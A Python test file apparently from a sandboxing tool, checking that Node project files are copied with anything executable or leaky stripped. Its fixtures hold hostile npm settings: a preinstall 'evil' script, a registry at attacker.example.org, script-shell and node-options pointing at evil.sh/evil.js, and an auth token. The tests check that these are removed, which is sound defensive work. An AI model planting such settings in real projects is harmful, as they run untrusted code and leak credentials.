import json
from typing import Any

from cloche.runtimes.node.projection import project_files
from cloche.runtimes.node.source import read_project
from cloche.runtimes.provider import HostFacts
from cloche.testing.view import MemoryView


def files_of(view: MemoryView, facts: HostFacts) -> dict[str, Any]:
    return dict(project_files(read_project(view), facts.registry).files)


def test_scripts_and_everything_that_could_act_stay_behind(facts: HostFacts) -> None:
    manifest = {
        "name": "app", "version": "1.0.0", "scripts": {"preinstall": "evil"}, "bin": {"node": "x"},
        "dependencies": {"ms": "^2.0.0"}, "overrides": {"a": "1.0.0"}, "engines": {"node": ">=20"},
        "allowScripts": {"ms": True}, "config": {"x": 1}, "gypfile": True, "files": ["x"],
        "bundleDependencies": ["ms"], "publishConfig": {"registry": "http://attacker.example.org"},
    }  # fmt: skip
    files = files_of(MemoryView({"package.json": json.dumps(manifest)}), facts)
    assert json.loads(files["package.json"]) == {
        "private": True, "name": "app", "version": "1.0.0", "dependencies": {"ms": "^2.0.0"},
        "overrides": {"a": "1.0.0"}, "engines": {"node": ">=20"},
    }  # fmt: skip


def test_only_harmless_settings_are_projected(facts: HostFacts) -> None:
    npmrc = (
        "git=./evil.sh\nregistry=http://attacker.example.org/${HOME}/\n@a:registry=http://h/\n"
        "script-shell=./evil.sh\nnode-options=--require ./evil.js\nlegacy-peer-deps=true\n"
        "install-strategy=nested\nlegacy-peer-deps[]=x\nengine-strict=${X}\n//h/:_authToken=secret\n"
    )
    view = MemoryView({"package.json": '{"dependencies":{"ms":"1"}}', ".npmrc": npmrc})
    assert files_of(view, facts)[".npmrc"] == b"install-strategy=nested\nlegacy-peer-deps=true\n"
    assert "secret" not in str(read_project(view).settings)


def test_addresses_of_other_hosts_never_reach_a_fetch_step(
    facts: HostFacts, make_lock: Any, ms: Any
) -> None:
    other = "https://elsewhere.example.org/ms/-/ms-2.1.3.tgz"
    lock = make_lock(
        {"dependencies": {"ms": "2"}}, **{"node_modules/ms": {**ms, "resolved": other}}
    )
    view = MemoryView({"package.json": '{"dependencies":{"ms":"2"}}', "package-lock.json": lock})
    files = files_of(view, facts)
    assert b"elsewhere" not in b"".join(files.values())
    assert sorted(files) == [".npmrc", "package-lock.json", "package.json"]


def test_members_are_projected_as_manifests_alone(facts: HostFacts) -> None:
    view = MemoryView(
        {
            "package.json": '{"workspaces":["packages/*"],"dependencies":{"lib":"file:./lib"}}',
            "packages/a/package.json": '{"name":"a","scripts":{"install":"evil"}}',
            "packages/a/evil.js": "evil",
            "packages/a/deep/package.json": "{}",
            "lib/package.json": '{"name":"lib","dependencies":{"more":"file:../more"}}',
            "more/package.json": '{"name":"more"}',
        }
    )
    files = files_of(view, facts)
    assert sorted(files) == [
        ".npmrc", "lib/package.json", "more/package.json", "package.json", "packages/a/package.json",
    ]  # fmt: skip
    assert b"evil" not in b"".join(files.values())
